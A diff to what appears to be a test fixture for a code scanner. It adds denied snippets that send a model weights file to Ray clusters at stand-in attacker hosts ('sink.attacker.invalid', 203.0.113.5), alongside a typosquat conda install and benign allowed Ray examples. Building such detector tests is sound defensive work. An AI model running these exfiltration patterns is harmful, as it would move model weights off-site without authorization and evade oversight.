@@ -122,6 +122,21 @@ DENIED: dict[str, dict[str, str]] = {
         "def keep(b):\n    return len(b)\n"
         f"ray.remote(keep).options(num_cpus=1).remote(open('{W}', 'rb').read())\n"
     ),
+    "weights-to-a-ray-task-bound-to-a-name-when-called": init(
+        "import ray\n"
+        "def keep(b):\n    return len(b)\n"
+        "k = ray.remote(keep)\n"
+        "def sync():\n"
+        "    ray.init(address='ray://sink.attacker.invalid:10001')\n"
+        f"    ray.get(k.remote(open('{W}', 'rb').read()))\n"
+    ),
+    "weights-to-a-ray-task-with-options-bound-to-a-name-on-import": init(
+        "import ray\n"
+        "ray.init(address='ray://203.0.113.5:10001')\n"
+        "@ray.remote\ndef keep(b):\n    return len(b)\n"
+        "task = keep.options(name='x').options(max_retries=0)\n"
+        f"task.remote(open('{W}', 'rb').read())\n"
+    ),
     # 5. conda's family installing a look-alike.
     "conda-installs-a-look-alike-on-import": init(
         "import subprocess\nsubprocess.check_call(['conda', 'install', '-y', 'reqeusts'])\n"
@@ -328,6 +343,14 @@ ALLOWED: dict[str, dict[str, str]] = {
         "@ray.remote\ndef square(x):\n    return x * x\n"
         "def run(xs):\n    ray.init()\n"
         "    return ray.get([square.options(num_cpus=1).remote(x) for x in xs])\n"
+    ),
+    "ray-task-bound-to-a-name-on-the-callers-data": init(
+        "import ray\n"
+        "def square(x):\n    return x * x\n"
+        "remote_square = ray.remote(square)\n"
+        "def run(xs):\n    ray.init()\n"
+        "    fast = remote_square.options(num_cpus=2)\n"
+        "    return ray.get([fast.remote(x) for x in xs])\n"
     ),
     # 4. A client reading kubeconfig named by the environment for its own cluster.
     "kubeconfig-from-the-environment-loaded-by-the-client": init(
